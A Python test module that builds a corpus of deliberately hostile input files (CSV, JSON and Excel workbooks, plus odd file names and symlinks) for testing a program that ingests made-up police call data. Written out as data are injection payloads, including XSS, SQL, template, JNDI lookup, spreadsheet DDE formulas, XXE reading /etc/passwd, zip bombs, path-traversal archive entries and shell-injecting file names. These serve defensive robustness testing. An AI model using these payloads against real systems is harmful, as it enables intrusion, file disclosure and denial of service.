"""Makes files that a careless or hostile sender could hand over, as a program folder (all data is made up).

    python -m tests.hostile.corpus FOLDER [--full]

`--full` makes them at their full size: cells of 100 MB, 100,000 columns, archives that expand beyond 1 GB.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import stat
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

from tests.readers.books import SHEET, book, changed, old_book

PROGRAM = """
[program]
name = "Test Program (made up)"
organization = "Example region"
timezone = "America/Chicago"
fiscal_year_starts = 7
began = 2024-01-01
contact = "data@example.org"
[[agency]]
id = "oak"
name = "Oak Police Department"
team_units = ["CR1"]
"""
MAPPING = """
[[extract]]
table = "calls"
files = "{files}"
datetime = ["%m/%d/%Y %H:%M:%S"]
[extract.columns]
incident = "Incident"
received_at = "Received"
nature = "Nature"
disposition = "Disposition"
units = "Units"
[extract.split]
units = ","
"""
HEADINGS = ("Incident", "Received", "Nature", "Disposition", "Units")
HEAD = ",".join(HEADINGS)
TIME = "01/02/2024 10:00:00"
ROW = f"{{}},{TIME},{{}},arrest,CR1"

#: Texts that do something when they are shown without care. `HOSTILE` marks what must not reach a reader as it stands.
TEXTS = (
    "\x1b[31;7mHOSTILE\x1b[0m", "\x1b]0;HOSTILE\x07", "\x1b]8;;http://hostile.example\x07link\x1b]8;;\x07", "\x9b2JHOSTILE",
    "\x1b[2J\x1b[H", "back\x08\x08\x08space", "bell\x07", "vertical\x0btab\x0cfeed", "\x7fdelete",
    "\u202eHOSTILE\u202c", "\u2066isolate\u2069", "zero\u200bwidth\ufeff", "tag\U000e0041", "\ud7ff\ue000private\ue001",
    "[red]HOSTILE[/red]", "[link=http://hostile.example]x[/link]", "[/]", ":skull:",
    "<script>HOSTILE()</script>", "<img src=x onerror=HOSTILE()>", "<style>*{display:none}</style>", "&lt;HOSTILE&gt;", "]]>",
    "<svg onload=HOSTILE()>", '"><iframe src="file:///etc/passwd">', "</td></table>", "<!--", "@import url(file:///etc/passwd)",
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{0.__class__}", "%s%n%x", "${jndi:ldap://hostile.example}",
    "$x^2$", "\\input{/etc/passwd}", "`id`", "$(id)", "; DROP TABLE calls; --", "' OR 1=1 --", '" OR ""="', "x' || getenv('HOME') || '",
    "=HYPERLINK(\"http://hostile.example\",\"HOSTILE\")", "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "+1+1", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1", "'=1+1", "DDE(\"cmd\";\"/C calc\")",
    "A" * 40_000, "é" * 300, "👩‍👩‍👧‍👦" * 50, "Z" + "\u0335" * 500 + "algo", "\u0000", "..\\..\\..", "../../etc/passwd", "NULL", "nan", "1e999",
)  # fmt: skip


def program(folder: Path) -> Path:
    """The folder with its declarations and nothing in raw/ yet."""
    (folder / "agencies").mkdir(parents=True)
    (folder / "raw" / "oak").mkdir(parents=True)
    (folder / "program.toml").write_text(PROGRAM)
    (folder / "person.key").write_text("11" * 32)
    (folder / "agencies" / "oak.toml").write_text(MAPPING.format(files="oak/cad_*"))
    return folder


# -- delimited text ---------------------------------------------------------------------------------------------------


def texts(full: bool) -> Iterator[tuple[str, bytes]]:
    """Names and contents of delimited text."""
    big = 100_000_000 if full else 300_000
    head = HEAD.encode() + b"\n"
    row = ROW.format("A-1", "MADEUP").encode() + b"\n"
    yield "cell_large.csv", head + b"A-1," + TIME.encode() + b"," + b"x" * big + b",arrest,CR1\n" + row
    yield (
        "cell_large_quoted.csv",
        head + b"A-1," + TIME.encode() + b',"' + b"x\n" * (big // 2) + b'",arrest,CR1\n' + row,
    )
    columns = 100_000 if full else 3_000
    yield (
        "columns.csv",
        head[:-1] + b"".join(b",C%d" % n for n in range(columns)) + b"\n" + row[:-1] + b"," * columns + b"\n",
    )
    yield "columns_unnamed.csv", head[:-1] + b"," * columns + b"\n" + row[:-1] + b"," * columns + b"\n"
    yield "one_line.csv", b"x" * big
    yield "only_quotes.csv", b'"' * (big // 3 | 1)
    yield "only_commas.csv", head + b"," * big
    yield "only_line_ends.csv", b"\n" * big + head + row
    yield "line_ends_below.csv", head + row + b"\n" * big + row
    yield "commas_below.csv", head + row + b",,,,\n" * (big // 5) + row
    yield "no_rows_below.csv", head + row + b"x\n" * (big // 2) + row
    yield "no_row_far_below.csv", head + row * (big // 40) + b"x\n" + row
    yield "only_returns.csv", b"\r" * (big // 10) + head.replace(b"\n", b"\r") + row
    yield "nul_bytes.csv", head + row.replace(b"MADEUP", b"MA\0DE\0UP") + b"\0" * 1000
    yield "only_nul.csv", b"\0" * 100_000
    yield (
        "nested_quotes.csv",
        head + b'"A""1""","' + TIME.encode() + b'","""""a""""","arrest"x,"C"R"1"\n"open,x\n' + row * 3,
    )
    yield "unclosed.csv", head + row * 2 + b'A-3,"' + row * 5000
    yield "quotes_everywhere.csv", head + b'"' + row.replace(b",", b'","') * 3 + b'"\n' + row
    yield "ragged.csv", head + b"".join(b"x," * (n % 9) + b"\n" for n in range(2000)) + row
    yield "heading_many_times.csv", (head + row) * 200
    yield "headings_alike.csv", b",".join([HEAD.encode()] * 50) + b"\n" + b",".join([row[:-1]] * 50) + b"\n"
    yield "heading_control.csv", head.replace(b"Units", b"Units,\x1b[31;7mHOSTILE\x1b[0m") + row[:-1] + b",x\n"
    yield "not_utf8.csv", head + row.replace(b"MADEUP", bytes(range(128, 256))) + b"\xff\xfe\xfd\n"
    yield "utf16.csv", (HEAD + "\n" + row.decode()).encode("utf-16")
    yield "utf16_bare.csv", (HEAD + "\n" + row.decode()).encode("utf-16-le")
    yield "utf16_odd.csv", (HEAD + "\n" + row.decode()).encode("utf-16")[:-1]
    yield "utf32.csv", (HEAD + "\n" + row.decode()).encode("utf-32")
    yield "utf7.csv", (HEAD + "\nA-1,+AD0-1+AD0-,x,arrest,CR1\n").encode()
    yield "marks.csv", b"\xef\xbb\xbf" * 3 + head + row
    yield "ctrl_z.csv", head + row + b"\x1a" + row
    yield "sep_line.csv", b"sep=;\n" + head.replace(b",", b";") + row.replace(b",", b";")
    yield "tabs_and_pipes.csv", head.replace(b",", b"\t|\t") + row.replace(b",", b"\t|\t")
    yield "shell.csv", b"#!/bin/sh\necho HOSTILE\n"
    yield "program.csv", b"MZ" + bytes(500) + head + row
    yield (
        "dates.csv",
        head
        + b"".join(
            ROW.format(f"D-{n}", "x").replace(TIME, time).encode() + b"\n"
            for n, time in enumerate(
                (
                    "99/99/9999 99:99:99",
                    "02/30/2024 10:00:00",
                    "01/01/0000 00:00:00",
                    "12/31/9999 23:59:59",
                    "-1",
                    "1e308",
                    "nan",
                    "infinity",
                    "epoch",
                    "now",
                    "today",
                    "01/01/-2024 10:00:00",
                    "1" * 5000,
                )
            )
        ),
    )
    lines = "\n".join(
        ",".join(_cell(c) for c in (f"T-{n}", TIME, text, "arrest", "CR1")) for n, text in enumerate(TEXTS)
    )
    yield "texts.csv", (HEAD + "\n" + lines + "\n").encode("utf-8", "surrogatepass")
    faults = "\n".join(",".join(_cell(c) for c in (text, text, text, text, text)) for text in TEXTS)
    yield "texts_as_codes.csv", (HEAD + "\n" + faults + "\n").encode("utf-8", "surrogatepass")


def _cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


# -- JSON -------------------------------------------------------------------------------------------------------------


def jsons(full: bool) -> Iterator[tuple[str, bytes]]:
    """Names and contents of JSON."""
    deep = 1_000_000 if full else 50_000
    one = dict(zip(HEADINGS, ("J-1", TIME, "MADEUP", "arrest", "CR1"), strict=True))
    good = json.dumps(one).encode()
    yield "deep_list.json", b"[" * deep
    yield "deep_closed.json", b"[" * deep + b"]" * deep
    yield "deep_object.json", b'{"a":' * deep + b"1" + b"}" * deep
    yield "deep_cell.json", b"[" + good[:-1] + b', "Nested": ' + b"[" * 5000 + b"]" * 5000 + b"}]"
    yield "deep_lines.jsonl", good + b"\n" + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"\n"
    yield "digits.json", b"[" + good.replace(b'"J-1"', b"9" * 100_000) + b"]"
    yield (
        "exponent.json",
        b"[" + good.replace(b'"J-1"', b"1e999999999") + b", " + good.replace(b'"J-1"', b"-0.0") + b"]",
    )
    yield "words.json", b"[" + good.replace(b'"J-1"', b"NaN") + b", " + good.replace(b'"J-1"', b"Infinity") + b"]"
    yield "surrogate.json", b"[" + good.replace(b"MADEUP", b"\\ud800 \\udc00 \\u0000 \\u202e") + b"]"
    yield "twice.json", b"[" + good[:-1] + b', "Incident": "J-2", "Incident": null}]'
    yield "many_keys.json", json.dumps([one | {f"K{n}": n for n in range(100_000 if full else 3_000)}]).encode()
    yield "keys_of_each.jsonl", b"".join(json.dumps(one | {f"K{n}": n}).encode() + b"\n" for n in range(3000))
    yield "long_text.json", json.dumps([one | {"Nature": "x" * (100_000_000 if full else 300_000)}]).encode()
    yield "open_text.json", b'[{"Incident": "' + b"x" * 1_000_000
    yield "comments.json", b"[ // no\n" + good + b", /* no */ ]"
    yield "two_roots.json", b"[" + good + b"]" + b"[" + good + b"]"
    yield "scalars.json", b'[1, "x", null, true, [], {}]'
    yield "texts.json", json.dumps([one | {"Incident": f"J-{n}", "Nature": t} for n, t in enumerate(TEXTS)]).encode()


# -- workbooks --------------------------------------------------------------------------------------------------------


def workbooks(folder: Path, full: bool) -> Iterator[tuple[str, bytes]]:
    """Names and contents of workbooks."""
    made = folder / "made.xlsx"
    rows = [list(HEADINGS), ["X-1", TIME, "MADEUP", "arrest", "CR1"]]
    good = book(made, rows).read_bytes()

    def part(name: str, change: Callable[[bytes], bytes]) -> bytes:
        made.write_bytes(good)
        return changed(made, name, change).read_bytes()

    size = 1_200_000_000 if full else 3_000_000
    yield "bomb_media.xlsx", with_parts(good, {"xl/media/image1.png": size})
    yield "bomb_sheet.xlsx", _bomb_sheet(good, size)
    yield "bomb_lies.xlsx", _lying(with_parts(good, {"xl/sharedStrings.xml": 3_000_000}), 3_000_000)
    yield (
        "bomb_many.xlsx",
        with_parts(good, dict.fromkeys((f"xl/x{n}.bin" for n in range(60_000 if full else 500)), 10)),
    )
    yield (
        "formulas.xlsx",
        book(
            made,
            [
                *rows,
                [
                    "=1+1",
                    "=NOW()",
                    '=HYPERLINK("http://hostile.example")',
                    "=cmd|'/C calc'!A0",
                    '=WEBSERVICE("http://hostile.example")',
                ],
            ],
        ).read_bytes(),
    )
    yield (
        "links.xlsx",
        with_files(
            good,
            {
                "xl/externalLinks/externalLink1.xml": _EXTERNAL,
                "xl/externalLinks/_rels/externalLink1.xml.rels": _OUTSIDE,
            },
        ),
    )
    yield "macros.xlsm", with_files(good, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(5000)})
    yield (
        "climbing.xlsx",
        with_files(
            good,
            {"../../../../tmp/hostile.txt": b"HOSTILE", "/etc/hostile.txt": b"HOSTILE", "xl\\worksheets\\..\\x": b"x"},
        ),
    )
    yield "twice.xlsx", _doubled(good)
    yield (
        "entities.xlsx",
        part(
            SHEET,
            lambda x: x.replace(
                b"<worksheet", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet'
            ).replace(b"MADEUP", b"&a;"),
        ),
    )
    yield (
        "far_cell.xlsx",
        part(
            SHEET,
            lambda x: x.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
        ),
    )
    yield (
        "rows_claimed.xlsx",
        part(SHEET, lambda x: x.replace(b'<dimension ref="A1:E2"', b'<dimension ref="A1:XFD1048576"')),
    )
    yield (
        "row_numbers.xlsx",
        part(SHEET, lambda x: x.replace(b'r="2"', b'r="99999999999999999999"').replace(b'"A2"', b'"ZZZZZZ0"')),
    )
    yield (
        "string_index.xlsx",
        part(
            SHEET,
            lambda x: x.replace(b't="inlineStr"><is><t>MADEUP</t></is>', b't="s"><v>999999999</v>'),
        ),
    )
    yield (
        "sheet_name.xlsx",
        part(
            "xl/workbook.xml",
            lambda x: x.replace(b'name="Calls"', b'name="&#27;[31;7mHOSTILE &lt;script&gt; &#x202e;"'),
        ),
    )
    yield "sheets.xlsx", book(made, rows, more={f"Sheet{n}": [["x"]] for n in range(30)}).read_bytes()
    yield (
        "texts.xlsx",
        book(
            made, [rows[0], *([f"W-{n}", TIME, _excel(t), "arrest", "CR1"] for n, t in enumerate(TEXTS))]
        ).read_bytes(),
    )
    yield (
        "numbers.xlsx",
        book(made, [rows[0], [1e300, -1.0, 5e93, 2**70, 0.1], [45000.5, 2958466, -5, 0, 60]]).read_bytes(),
    )
    yield (
        "columns.xlsx",
        book(made, [[*HEADINGS, *(f"C{n}" for n in range(16_000 if full else 1_500))], rows[1]]).read_bytes(),
    )
    for cut in (30, len(good) // 3, len(good) // 2, len(good) - 30):
        yield f"cut_{cut}.xlsx", good[:cut]
    yield (
        "cipher.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(3000),
    )
    yield "no_workbook.xlsx", _zip({"word/document.xml": b"<x/>"})
    yield "encrypted_zip.xlsx", _flagged(good)
    old = old_book(
        folder / "made.xls", [(r, c, v) for r, cells in enumerate(rows) for c, v in enumerate(cells)]
    ).read_bytes()
    yield "old.xls", old
    yield "old_locked.xls", old_book(folder / "made.xls", [(0, 0, "Incident")], encrypted=True).read_bytes()
    for cut in (100, 600, len(old) // 2):
        yield f"old_cut_{cut}.xls", old[:cut]
    yield "old_loop.xls", old[:512] + struct.pack("<I", 0) * 128 + old[1024:]


_EXTERNAL = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>'
)
_OUTSIDE = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'


def _excel(text: str) -> str:
    """What openpyxl takes: no control characters, 32,767 of them at most; a leading `=` stays a text."""
    return "'" * text.startswith("=") + "".join(c for c in text if c >= " " and c != "\x7f")[:32_000]


def _zip(parts: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return held.getvalue()


def with_files(good: bytes, parts: dict[str, bytes]) -> bytes:
    """The workbook with further parts."""
    held = io.BytesIO(good)
    with zipfile.ZipFile(held, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return held.getvalue()


def with_parts(good: bytes, sizes: dict[str, int]) -> bytes:
    """The workbook with further parts of so many zeros."""
    held = io.BytesIO(good)
    with zipfile.ZipFile(held, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, size in sizes.items():
            with archive.open(name, "w", force_zip64=True) as made:
                for start in range(0, size, 1 << 20):
                    made.write(bytes(min(1 << 20, size - start)))
    return held.getvalue()


def _bomb_sheet(good: bytes, size: int) -> bytes:
    """A sheet that goes on and on."""
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    begin, end = parts.pop(SHEET).split(b"</sheetData>")
    row = b'<row><c t="inlineStr"><is><t>' + b"x" * 1000 + b"</t></is></c></row>"
    held = io.BytesIO(_zip(parts))
    with (
        zipfile.ZipFile(held, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open(SHEET, "w", force_zip64=True) as made,
    ):
        made.write(begin)
        block = row * 1000
        for _ in range(size // len(block)):
            made.write(block)
        made.write(b"</sheetData>" + end)
    return held.getvalue()


def _lying(content: bytes, size: int) -> bytes:
    return content.replace(struct.pack("<I", size), struct.pack("<I", 10))


def _flagged(good: bytes) -> bytes:
    """Every part says that it is encrypted."""
    changed_bytes = bytearray(good)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = changed_bytes.find(mark)
        while place >= 0:
            changed_bytes[place + at] |= 1
            place = changed_bytes.find(mark, place + 4)
    return bytes(changed_bytes)


def _doubled(good: bytes) -> bytes:
    """The sheet twice under one name: which one is read?"""
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        sheet = archive.read(SHEET)
    held = io.BytesIO(good)
    with zipfile.ZipFile(held, "a") as archive:
        info = zipfile.ZipInfo("xl/worksheets/sheet2.xml")
        archive.writestr(info, sheet.replace(b"X-1", b"Y-1"))
    return held.getvalue().replace(b"sheet2.xml", b"sheet1.xml")


# -- what the ending does not say -------------------------------------------------------------------------------------


def others(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Contents under names with a wrong ending."""
    good = book(folder / "made.xlsx", [list(HEADINGS), ["X-1", TIME, "x", "arrest", "CR1"]]).read_bytes()
    text = (HEAD + "\n" + ROW.format("A-1", "MADEUP") + "\n").encode()
    yield "workbook.csv", good
    yield "text.xlsx", text
    yield "text.json", text
    yield "json.csv", json.dumps([dict(zip(HEADINGS, "abcde", strict=True))]).encode()
    yield "page.xls", b"<html><table><tr><td>Incident</td></tr></table><script>HOSTILE()</script></html>"
    yield "packed.csv", zlib.compress(text)
    yield "gzip.csv", b"\x1f\x8b\x08\x00" + bytes(100)
    yield "empty.csv", b""
    yield "empty.xlsx", b""
    yield "empty.json", b""
    yield "space.csv", b" "
    yield "no_ending", text
    yield "many.dots.csv.xlsx.txt", text


#: Names that a shell, a pattern, a terminal or a page could take for something else.
NAMES = (
    "a b.csv", "..hidden..csv", "a..b.csv", "%2e%2e%2fx.csv", "%s%n.csv", "percent%.csv", "quote'.csv", 'double".csv', "back`tick.csv",
    "$(touch HOSTILE).csv", "; rm -rf x.csv", "line\nfeed.csv", "return\r.csv", "tab\t.csv", "esc\x1b[31;7mHOSTILE.csv", "\x1b]0;HOSTILE\x07.csv",
    "bidi\u202evsc.exe.csv", "[red]HOSTILE[/red].csv", "<script>HOSTILE()<.csv", "&amp;.csv", "star*.csv", "ques?tion.csv", "set[ab].csv", "brace{a,b}.csv",
    "-rf.csv", "--output=x.csv", "=1+1.csv", "+1.csv", "@x.csv", "~tilde.csv", "back\\slash.csv", "colon:x.csv", "pipe|x.csv",
    "é\u0301.csv", "e\u0301.csv", "ＦＵＬＬ.csv", "x" * 200 + ".csv", "CON.csv", "trailing .csv", "trailing..csv",
)  # fmt: skip


def special(raw: Path) -> list[str]:
    """Pipes, devices, sockets, links that lead out, nowhere or round in circles. Names below raw/."""
    oak = raw / "oak"
    made = []
    if hasattr(os, "mkfifo"):
        os.mkfifo(oak / "cad_pipe.csv")
        made.append("cad_pipe.csv")
    if hasattr(os, "mknod"):
        with suppress(OSError):  # only the superuser may
            os.mknod(oak / "cad_zero.csv", 0o600 | stat.S_IFCHR, os.makedev(1, 5))
            made.append("cad_zero.csv")
    links = {
        "cad_passwd.csv": "/etc/passwd",
        "cad_dev.csv": "/dev/zero",
        "cad_nowhere.csv": "nothing",
        "cad_self.csv": "cad_self.csv",
        "cad_round_a.csv": "cad_round_b.csv",
        "cad_round_b.csv": "cad_round_a.csv",
        "cad_key.csv": "../../person.key",
        "cad_toml.csv": "../../program.toml",
        "cad_up.csv": "../../../outside.csv",
        "cad_folder": "..",
        "cad_again": ".",
    }
    for name, target in links.items():
        with suppress(OSError):
            (oak / name).symlink_to(target)
            made.append(name)
    (raw.parent.parent / "outside.csv").write_text(HEAD + "\n" + ROW.format("OUTSIDE-1", "x") + "\n")
    return made


def make(folder: Path, full: bool = False) -> list[str]:
    """The whole corpus. The names of the files below raw/oak/ that are regular."""
    program(folder)
    oak = folder / "raw" / "oak"
    made = []
    aside = folder.parent / "aside"
    aside.mkdir(exist_ok=True)
    for kind, files in (("t", texts(full)), ("j", jsons(full)), ("w", workbooks(aside, full)), ("o", others(aside))):
        for name, content in files:
            (oak / f"cad_{kind}_{name}").write_bytes(content)
            made.append(f"cad_{kind}_{name}")
    for number, name in enumerate(NAMES):
        with suppress(OSError, ValueError):  # a system may refuse the name
            (oak / f"cad_{name}").write_text(HEAD + "\n" + ROW.format(f"N-{number}", "MADEUP") + "\n")
            made.append(f"cad_{name}")
    special(folder / "raw")
    return made


def main() -> None:
    """The command line."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--full", action="store_true")
    given = parser.parse_args()
    sys.stdout.write(f"{len(make(given.folder, given.full))} files\n")


if __name__ == "__main__":
    main()
